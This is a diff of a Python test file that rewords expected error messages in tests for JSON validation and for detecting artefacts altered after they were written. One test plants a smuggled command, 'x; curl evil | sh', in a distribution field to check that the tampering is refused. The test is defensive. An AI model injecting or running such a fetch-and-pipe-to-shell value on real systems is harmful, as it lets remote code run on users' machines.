@@ -62,8 +62,8 @@ class TestJson:
         [
             (b"[" * 100_000, "nested too deeply"),
             (b"9" * 5000, "this is not JSON"),
-            (b'{"a": NaN}', "NaN is no number of JSON"),
-            (b'{"a": -Infinity}', "-Infinity is no number of JSON"),
+            (b'{"a": NaN}', "NaN is not a number of JSON"),
+            (b'{"a": -Infinity}', "-Infinity is not a number of JSON"),
             (b'{"a": 1, "a": 2}', "the key 'a' is there twice"),
             (b"\xff\xfe", "not UTF-8"),
             (b"", "this is not JSON"),
@@ -108,7 +108,7 @@ class TestStates:
         """The distribution stands in the line that a person is to type."""
         rewrite(lambda facts: facts.update(distribution="x; curl evil | sh"))
         said = refused(host, folder)
-        assert "is not as it was written: distribution" in said
+        assert "was changed after it was written: distribution" in said
         assert "pip install" not in said
 
     def test_a_component_that_is_a_module(
@@ -192,7 +192,7 @@ class TestValues:
         facts = json.loads((tmp_path / "value.json").read_text())
         change(facts)
         (tmp_path / "value.json").write_text(json.dumps(facts))
-        with pytest.raises(ArtefactError, match=r"value\.json is not as it was written"):
+        with pytest.raises(ArtefactError, match=r"value\.json was changed after it was written"):
             load_value(tmp_path, None)
 
     def test_data_whose_arrays_are_others(self, tmp_path: Path) -> None:
